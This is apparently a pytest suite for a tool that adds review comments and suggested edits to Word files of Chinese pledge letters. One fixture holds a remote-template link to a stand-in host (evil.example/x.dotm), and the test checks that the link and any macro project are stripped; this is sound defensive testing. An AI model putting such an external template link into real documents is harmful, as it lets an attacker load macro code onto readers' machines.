import io
import re
import zipfile
from collections.abc import Sequence
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from checker import wordml
from checker.document import Document
from checker.document import Where as At
from checker.findings import Finding, Judgement, Review, Section
from checker.judging import review_document
from checker.readers import read_data
from checker.reports.comments import MOST, CannotComment, commented_copy
from corpus import load_standard
from tests.docx_builder import (
    Docx,
    Xml,
    block_control,
    cell,
    control,
    deleted,
    footnote,
    hidden,
    inserted,
    link,
    p,
    row,
    ruby,
    run,
    simple_field,
    smart_tag,
    table,
    text_box,
)
from tests.readers.test_fields import open_field
from tests.reports.office import HAS_SOFFICE, parts, seen_comments, soffice

WHEN = datetime(2026, 11, 22, 9, 0)
W = f"{{{wordml.W}}}"


def place(document: Document, words: str) -> At:
    """Where the words stand first."""
    for paragraph in document.paragraphs:
        if words in paragraph.text:
            start = paragraph.text.index(words)
            return At(paragraph.part, paragraph.index, start, start + len(words))
    raise AssertionError(f"{words} is not in the document")


def finding(document: Document, words: str, suggestion: str | None = None) -> Finding:
    return Finding("spun.word", "warning", f"请看：{words}", place(document, words), suggestion)


def review_of(document: Document, findings: Sequence[Finding], title: str = "承诺书") -> Review:
    return Review(
        file="a.docx",
        sha256=document.sha256,
        status="revise",
        kind="letter",
        title=title,
        findings=tuple(findings),
        format="docx",
        texts={paragraph.index: paragraph.text for paragraph in document.paragraphs},
    )


def commented(source: bytes, words: Sequence[str]) -> bytes:
    document = read_data(source)
    review = review_of(document, [finding(document, w) for w in words])
    return commented_copy(source, document, review, date=WHEN)


def main_part(source: bytes) -> Any:
    return wordml.parse(parts(source)["word/document.xml"])


def ranges(source: bytes) -> dict[str, str]:
    """Comment text -> visible words between its marks, read from the XML itself."""
    root = main_part(source)
    comments = wordml.parse(parts(source)["word/comments.xml"])
    texts = {c.get(W + "id"): "".join(c.itertext()) for c in comments.iter(*wordml.both("comment"))}
    for c in comments.iter(*wordml.both("comment")):
        texts.setdefault(c.get(f"{{{wordml.W_STRICT}}}id"), "".join(c.itertext()))
    found: dict[str, str] = {}
    open_now: set[str] = set()
    referenced = []
    for element in root.iter():
        local = etree.QName(element).localname
        number = next((element.get(n) for n in wordml.both("id") if element.get(n)), "")
        if local == "commentRangeStart":
            open_now.add(number)
            found[number] = ""
        elif local == "commentRangeEnd":
            open_now.remove(number)
        elif local == "commentReference":
            referenced.append(number)
        elif local == "r":
            for key in open_now:
                found[key] += wordml.run_text(element)
    assert not open_now, "a range is not closed"
    assert sorted(referenced) == sorted(found), "every range has one reference"
    return {texts[number]: words for number, words in found.items()}


def told(source: bytes) -> dict[str, str]:
    """The words that each finding's comment is about -> the words its range covers."""
    return {m[1]: words for text, words in ranges(source).items() if (m := re.search("请看：(.*)", text))}


RICH = Docx(
    p("承诺书"),
    p("我郑重承诺：", run("效劳群众,", properties="<w:b/><w:color w:val='FF0000'/>"), "不做表面文章。"),
    p("看", link("链接里的字"), "和", inserted("插入的字"), "与", smart_tag("标签里的字"), "完"),
    table([[cell("单元格里的承诺内容"), cell("另一格")]]),
    p(run(inner="<w:t>前</w:t><w:tab/><w:t>后面三字</w:t>")),
    p("留", deleted("删去的"), hidden("藏起的"), "存"),
    "最后一段的字",
)
RICH_WORDS = [
    "效劳",
    "承诺：效劳群",
    ",",
    "效劳群众,不做",
    "里的字和插入",
    "签里",
    "里的承诺",
    "后面",
    "前\t后",
    "留存",
    "最后一段",
]


def test_each_comment_is_on_exactly_its_words() -> None:
    assert told(commented(RICH.bytes(), RICH_WORDS)) == {
        **{words: words for words in RICH_WORDS},
        # The deleted and the hidden run lie between, and are in the range as they are in the paragraph.
        "留存": "留藏起的存",
        # LibreOffice loses a comment within a smart tag, so it is around it.
        "签里": "标签里的字",
    }


@pytest.mark.soffice
@pytest.mark.skipif(not HAS_SOFFICE, reason="LibreOffice is not installed")
def test_libreoffice_reads_the_comments_on_the_same_words(tmp_path: Path) -> None:
    copy = commented(RICH.bytes(), RICH_WORDS)
    seen = seen_comments(soffice(copy, "a.docx", "odt", tmp_path))
    assert seen[0][0] == "承诺书"
    assert seen[0][2].startswith("【审查意见】结论：需修改。")
    assert {author for _, author, _ in seen} == {"审查"}
    by_comment = {text.partition("请看：")[2]: words for words, _, text in seen[1:]}
    expected = {words.replace("\t", ""): words for words in RICH_WORDS}
    assert by_comment == {**expected, "留存": "留藏起的存", "签里": "标签里的字"}


@pytest.mark.soffice
@pytest.mark.skipif(not HAS_SOFFICE, reason="LibreOffice is not installed")
def test_the_page_looks_as_before(tmp_path: Path) -> None:
    before = soffice(RICH.bytes(), "before.docx", "txt:Text (encoded):UTF8", tmp_path).read_text("utf-8")
    after = soffice(commented(RICH.bytes(), RICH_WORDS), "after.docx", "txt:Text (encoded):UTF8", tmp_path)
    assert "效劳群众" in before
    assert after.read_text("utf-8") == before


def test_split_runs_keep_their_format_and_the_text_stays() -> None:
    copy = commented(RICH.bytes(), ["效劳"])
    root = main_part(copy)
    assert [q.text for q in read_data(copy).paragraphs] == [
        q.text for q in read_data(RICH.bytes()).paragraphs
    ]
    pieces = [r for r in wordml.runs(root) if wordml.run_text(r) in ("效劳", "群众,")]
    assert [wordml.run_text(r) for r in pieces] == ["效劳", "群众,"]
    formats = [etree.tostring(r.find(W + "rPr")) for r in pieces]
    assert formats[0] == formats[1]
    assert b"FF0000" in formats[0]


def test_the_reader_finds_the_same_places_in_the_copy() -> None:
    source = RICH.bytes()
    again = read_data(commented(source, RICH_WORDS))
    for words in RICH_WORDS:
        assert again.quote(place(read_data(source), words)) == words


def test_what_word_forbids_goes_into_the_summary() -> None:
    source = Docx(
        p("承诺书"),
        p("正文", footnote(1), text_box("文本框里的错字")),
        footnotes=["脚注里的错字"],
        headers={"default": "页眉里的错字"},
    ).bytes()
    words = ["文本框里的错字", "脚注里的错字", "页眉里的错字"]
    document = read_data(source)
    findings = [finding(document, w) for w in words]
    findings.append(Finding("sections.missing", "error", "缺少“日期”部分，请补上。"))
    copy = commented_copy(source, document, review_of(document, findings), date=WHEN)
    assert list(ranges(copy).values()) == ["承诺书"]
    (summary,) = ranges(copy)
    for text in (*(f"“{w}”" for w in words), "文本框第", "脚注第", "页眉第", "缺少“日期”部分"):
        assert text in summary


def test_the_summary_says_conclusion_elements_and_sections() -> None:
    source = Docx("承诺书", "内容").bytes()
    document = read_data(source)
    review = Review(
        "a.docx",
        document.sha256,
        "revise",
        kind="letter",
        title="承诺书",
        elements=(
            Judgement("study", "leads", "带头学习提高", "covered", 0.9),
            Judgement("serve", "leads", "带头服务群众", "named", 0.4, reason="只有口号。"),
        ),
        sections=(Section("title", "标题", True), Section("date", "日期", False)),
        format="docx",
    )
    (summary,) = ranges(commented_copy(source, document, review, date=WHEN))
    for text in (
        "结论：需修改",
        "文种：承诺书",
        "带头学习提高：已写实",
        "带头服务群众：只提到（只有口号）",
        "缺少的部分：日期",
    ):
        assert text in summary


def test_the_summary_stands_on_the_title_where_it_runs_into_the_text() -> None:
    source = Docx("某某学校文件", "某某学校实施方案 为了提高").bytes()
    document = read_data(source)
    copy = commented_copy(source, document, review_of(document, [], "某某学校实施方案"), date=WHEN)
    assert list(ranges(copy).values()) == ["某某学校实施方案"]


@pytest.mark.parametrize(
    "blocks",
    [
        [p(text_box("全文都在文本框里"))],
        [table([[cell("表格里的字")]])],
        [p(ruby("拼音", "pinyin"))],
    ],
    ids=["text box", "table", "ruby"],
)
def test_a_document_without_plain_paragraphs_still_carries_the_summary(blocks: list[str]) -> None:
    source = Docx(*blocks).bytes()
    document = read_data(source)
    copy = commented_copy(source, document, review_of(document, [], "没有这个标题"), date=WHEN)
    assert len(ranges(copy)) == 1


def test_fields_and_ruby_are_commented_as_a_whole() -> None:
    source = Docx(
        p("承诺书"), p("日期", simple_field("二〇一一年三月")), p("注", ruby("音字", "yin"), "完")
    ).bytes()
    covered = told(commented(source, ["一年"]))
    assert covered == {"一年": "二〇一一年三月"}
    root = main_part(commented(source, ["一年"]))
    assert root.find(f".//{W}fldSimple//{W}commentRangeStart") is None


def test_words_that_a_field_draws_are_commented_beside_it() -> None:
    button = open_field("MACROBUTTON NoMacro [单击此处]")
    source = Docx(p("承诺书"), p("姓名：", button), p(button, "后面的字"), p(button)).bytes()
    document = read_data(source)
    findings = [
        Finding(
            "placeholder.template", "error", f"请看：{n}", At("body", n, q.prompts[0][0], q.prompts[0][1])
        )
        for n, q in enumerate(document.paragraphs)
        if q.prompts
    ]
    copy = commented_copy(source, document, review_of(document, findings), date=WHEN)
    # Of the third there is nothing to put a comment on.
    assert {told_of[:1]: words for told_of, words in told(copy).items()} == {
        "1": "姓名：",
        "2": "后面的字",
        "3": "承诺书",
    }
    assert [q.text for q in read_data(copy).paragraphs] == [q.text for q in document.paragraphs]


def test_prompts_of_controls_and_dropped_capitals_are_commented_on_their_words() -> None:
    prompt = Xml(
        "<w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent>"
        + run("单击此处")
        + "</w:sdtContent></w:sdt>"
    )
    drop = '<w:framePr w:dropCap="drop" w:lines="2" w:wrap="around"/>'
    source = Docx("承诺书", p("姓名：", prompt), p("每", properties=drop), "周听两节课").bytes()
    assert told(commented(source, ["单击此处", "每周听"])) == {"单击此处": "单击此处", "每周听": "每周听"}


# A paragraph that comment 7 stands at.
MARKED = Xml(
    '<w:p><w:commentRangeStart w:id="7"/><w:r><w:t>旧的字</w:t></w:r><w:commentRangeEnd w:id="7"/>'
    '<w:r><w:commentReference w:id="7"/></w:r></w:p>'
)


def test_existing_comments_are_kept_and_numbers_do_not_clash() -> None:
    old = (
        f'<w:comments xmlns:w="{wordml.W}"><w:comment w:id="7" w:author="校长"><w:p><w:r>'
        "<w:t>旧批注</w:t></w:r></w:p></w:comment></w:comments>"
    )
    source = Docx(
        "承诺书",
        MARKED,
        files={"word/comments.xml": old},
        relations=[("old", "comments", "comments.xml", False)],
    ).bytes()
    copy = commented(source, ["的字"])
    assert sorted(ranges(copy).values()) == ["承诺书", "旧的字", "的字"]
    assert ranges(copy)["旧批注"] == "旧的字"
    numbers = re.findall(r'<w:comment [^>]*w:id="(\d+)"', parts(copy)["word/comments.xml"].decode())
    assert len(set(numbers)) == 3
    assert parts(copy)["[Content_Types].xml"].count(b"/word/comments.xml") == 1


def test_what_was_said_of_the_draft_before_goes_and_other_peoples_comments_stay() -> None:
    theirs = f'<w:comments xmlns:w="{wordml.W}"><w:comment w:id="7" w:author="审查"><w:p><w:r><w:t>人写的</w:t></w:r></w:p>'
    theirs += "</w:comment></w:comments>"
    source = Docx(
        "承诺书",
        MARKED,
        "效劳群众",
        files={"word/comments.xml": theirs},
        relations=[("old", "comments", "comments.xml", False)],
    ).bytes()
    returned = commented(commented(source, ["效劳"]), ["群众"])
    assert told(returned) == {"群众": "群众"}
    assert sorted(ranges(returned).values()) == ["承诺书", "旧的字", "群众"]
    assert [p.text for p in read_data(returned).paragraphs] == [p.text for p in read_data(source).paragraphs]


def test_only_what_must_change_changes_and_the_same_gives_the_same() -> None:
    source = Docx("承诺书", "效劳群众", files={"word/media/图.png": b"\x89PNG\0\1"}).bytes()
    copy = commented(source, ["效劳"])
    before, after = parts(source), parts(copy)
    changed = {name for name in before if before[name] != after[name]}
    assert changed == {"word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"}
    assert set(after) - set(before) == {"word/comments.xml"}
    assert commented(source, ["效劳"]) == copy
    assert b'w:date="2026-11-22T09:00:00Z"' in after["word/comments.xml"]


def test_strict_documents_get_strict_comments() -> None:
    source = Docx("承诺书", "效劳群众", strict=True).bytes()
    copy = commented(source, ["效劳"])
    assert told(copy) == {"效劳": "效劳"}
    assert wordml.W_STRICT.encode() in parts(copy)["word/comments.xml"]
    assert (
        b"purl.oclc.org/ooxml/officeDocument/relationships/comments"
        in parts(copy)["word/_rels/document.xml.rels"]
    )


def test_a_macro_is_not_handed_on() -> None:
    source = Docx(
        "承诺书", "效劳群众", macro=True, relations=[("m", "vbaProject", "vbaProject.bin", False)]
    ).bytes()
    copy = parts(commented(source, ["效劳"]))
    assert "word/vbaProject.bin" not in copy
    assert b"vbaProject.bin" not in copy["word/_rels/document.xml.rels"]
    assert b"macroEnabled" not in copy["[Content_Types].xml"]


def test_a_remote_template_is_not_handed_on() -> None:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="t" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    source = Docx(
        "承诺书",
        "效劳群众",
        settings='<w:zoom w:percent="90"/><w:attachedTemplate r:id="t"/>',
        files={"word/_rels/settings.xml.rels": rels},
    ).bytes()
    copy = commented(source, ["效劳"])
    assert not any(b"evil.example" in content for content in parts(copy).values())
    assert b"attachedTemplate" not in parts(copy)["word/settings.xml"]
    assert b"zoom" in parts(copy)["word/settings.xml"]


def test_a_suggestion_can_be_a_tracked_change_that_gives_the_old_or_the_new_text() -> None:
    source = RICH.bytes()
    document = read_data(source)
    findings = [
        finding(document, "效劳", "服务"),
        finding(document, ",", "，"),
        finding(document, "另一", ""),
    ]
    copy = commented_copy(source, document, review_of(document, findings), date=WHEN, suggest=True)
    root = main_part(copy)
    deleted_words = ["".join(d.itertext()) for d in root.iter(W + "del")]
    inserted_words = ["".join(i.itertext()) for i in root.iter(W + "ins") if i.get(W + "author") == "审查"]
    assert [w for w in deleted_words if w != "删去的"] == ["效劳", ",", "另一"]
    assert inserted_words == ["服务", "，"]
    accepted = [q.text for q in read_data(copy).paragraphs]
    assert "我郑重承诺：服务群众，不做表面文章。" in accepted
    numbers = [e.get(W + "id") for e in root.iter(W + "del", W + "ins") if e.get(W + "author") == "审查"]
    assert len(set(numbers)) == len(numbers) == 5
    new = next(i for i in root.iter(W + "ins") if "".join(i.itertext()) == "服务")
    assert b"FF0000" in etree.tostring(new)


def test_overlapping_suggestions_change_the_words_once() -> None:
    source = Docx("承诺书", "效劳群众").bytes()
    document = read_data(source)
    findings = [finding(document, "效劳", "服务"), finding(document, "劳群", "务群")]
    copy = commented_copy(source, document, review_of(document, findings), date=WHEN, suggest=True)
    assert read_data(copy).paragraphs[1].text == "服务群众"


@pytest.mark.parametrize(
    ("text", "mended"),
    [
        ("我带头效劳群众，效劳学生，也效劳家长。", "我带头服务群众，服务学生，也服务家长。"),
        ("我每周家访一户,不收礼品,不在外补课,不迟到。", "我每周家访一户，不收礼品，不在外补课，不迟到。"),
        (
            "按照县教工委[2011]3号、局党委[2011]第05号文件办。",
            "按照县教工委〔2011〕3号、局党委〔2011〕5号文件办。",
        ),
        ("从2011年03月1日到2011年04月05日办完。", "从2011年3月1日到2011年4月5日办完。"),
    ],
)
def test_what_is_said_once_is_changed_wherever_it_stands(text: str, mended: str) -> None:
    lines = ("承诺书", "我承诺：", text, "承诺人：李文秀", "2011年3月8日")
    source = Docx(*lines).bytes()
    document = read_data(source)
    review = review_document(document, "a.docx", load_standard())
    copy = commented_copy(source, document, review, date=WHEN, suggest=True)
    assert [q.text for q in read_data(copy).paragraphs] == [mended if x == text else x for x in lines]
    copy = commented_copy(source, document, review, date=WHEN)
    assert [q.text for q in read_data(copy).paragraphs] == [*lines]


def test_without_suggest_nothing_is_changed() -> None:
    source = RICH.bytes()
    document = read_data(source)
    review = review_of(document, [finding(document, "效劳", "服务")])
    copy = commented_copy(source, document, review, date=WHEN)
    assert [q.text for q in read_data(copy).paragraphs] == [q.text for q in document.paragraphs]
    assert "建议改为：服务" in next(text for text in ranges(copy) if "请看" in text)


def test_very_many_findings_are_cut_and_counted() -> None:
    source = Docx("承诺书", "字" * 1000).bytes()
    document = read_data(source)
    findings = [Finding("spun.word", "info", f"第{n}处", At("body", 1, n, n + 1)) for n in range(MOST + 50)]
    found = ranges(commented_copy(source, document, review_of(document, findings), date=WHEN))
    assert len(found) == MOST + 1
    assert any("还有 50 处" in text for text in found)


def test_text_of_a_document_cannot_break_the_comments() -> None:
    source = Docx("承诺书", "内容").bytes()
    document = read_data(source)
    nasty = "<w:r>]]>&lt;\x00\x08\ud800\ufffe"
    review = review_of(document, [Finding("spun.word", "error", nasty, place(document, "内容"), nasty)])
    copy = commented_copy(source, document, review, date=WHEN)
    assert any("<w:r>]]>&lt;" in text for text in ranges(copy))


def test_places_that_are_wrong_do_not_fail() -> None:
    source = Docx("承诺书", "内容").bytes()
    document = read_data(source)
    places = [At("body", 99, 0, 1), At("body", 1, 50, 60), At("body", 1, 0, 0), At("body", 1, 1, 99)]
    review = review_of(document, [Finding("spun.word", "info", f"处{n}", w) for n, w in enumerate(places)])
    assert len(ranges(commented_copy(source, document, review, date=WHEN))) == 3


@pytest.mark.parametrize("broken", ["document", "types", "zip"])
def test_what_cannot_carry_comments_is_refused_in_chinese(broken: str) -> None:
    source = Docx("承诺书", "内容").bytes()
    document = read_data(source)
    members: dict[str, bytes] = {**parts(source)}
    if broken == "document":
        members["word/document.xml"] = b"<w:document"
    elif broken == "types":
        del members["[Content_Types].xml"]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    data = b"PK\x03\x04" if broken == "zip" else out.getvalue()
    with pytest.raises(CannotComment, match="[\u4e00-\u9fff]"):
        commented_copy(data, document, review_of(document, []), date=WHEN)


def test_rows_and_nested_tables_are_commented_in_place() -> None:
    inner = table([[cell("里层表格的字")]])
    source = Docx("承诺书", table([row(cell(inner, "外层的字"))])).bytes()
    assert told(commented(source, ["表格的", "外层"])) == {"表格的": "表格的", "外层": "外层"}


def test_a_control_around_paragraphs_is_left_alone_because_libreoffice_would_lose_its_words() -> None:
    source = Docx("承诺书", block_control("控件段落里的字")).bytes()
    found = ranges(commented(source, ["段落里"]))
    assert list(found.values()) == ["承诺书"]
    assert "“段落里”" in next(iter(found))


def test_inline_controls_are_commented_as_a_whole() -> None:
    source = Docx("承诺书", p("前", control("控件里的字"), "后")).bytes()
    assert told(commented(source, ["件里"])) == {"件里": "控件里的字"}


PIECES = st.one_of(
    st.text("甲乙 丙。", min_size=1, max_size=6).map(lambda words: run(words)),
    st.text("丁戊", min_size=1, max_size=4).map(lambda words: run(words, properties="<w:b/>")),
    st.sampled_from(
        [
            run(inner="<w:t>前</w:t><w:tab/><w:t>后段</w:t>"),
            run(inner="<w:t>上行</w:t><w:br/><w:noBreakHyphen/><w:t xml:space='preserve'> 下 </w:t>"),
            run(inner="<w:lastRenderedPageBreak/><w:t>页首</w:t>"),
            inserted("插入的"),
            link("链接的"),
            deleted("删去"),
            hidden("藏起"),
        ]
    ),
)


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_any_spans_over_any_runs_keep_the_text_and_cover_their_words(data: st.DataObject) -> None:
    blocks = [
        p(*data.draw(st.lists(PIECES, min_size=1, max_size=6))) for _ in range(data.draw(st.integers(1, 3)))
    ]
    source = Docx("承诺书", *blocks, p(inserted("末"), "尾")).bytes()
    document = read_data(source)
    wheres = []
    for paragraph in document.paragraphs[1:]:
        for _ in range(data.draw(st.integers(0, 3)) if paragraph.text else 0):
            start = data.draw(st.integers(0, len(paragraph.text) - 1))
            wheres.append(
                At("body", paragraph.index, start, data.draw(st.integers(start + 1, len(paragraph.text))))
            )
    review = review_of(
        document, [Finding("spun.word", "info", f"第{n}处。", w) for n, w in enumerate(wheres)]
    )
    copy = commented_copy(source, document, review, date=WHEN)
    assert [q.text for q in read_data(copy).paragraphs] == [q.text for q in document.paragraphs]
    found = ranges(copy)
    for number, where in enumerate(wheres):
        covered = next(words for text, words in found.items() if f"第{number}处。" in text)
        # Deleted and hidden runs may lie within; they are no text of the paragraph.
        assert covered.replace("删去", "").replace("藏起", "") == document.quote(where)
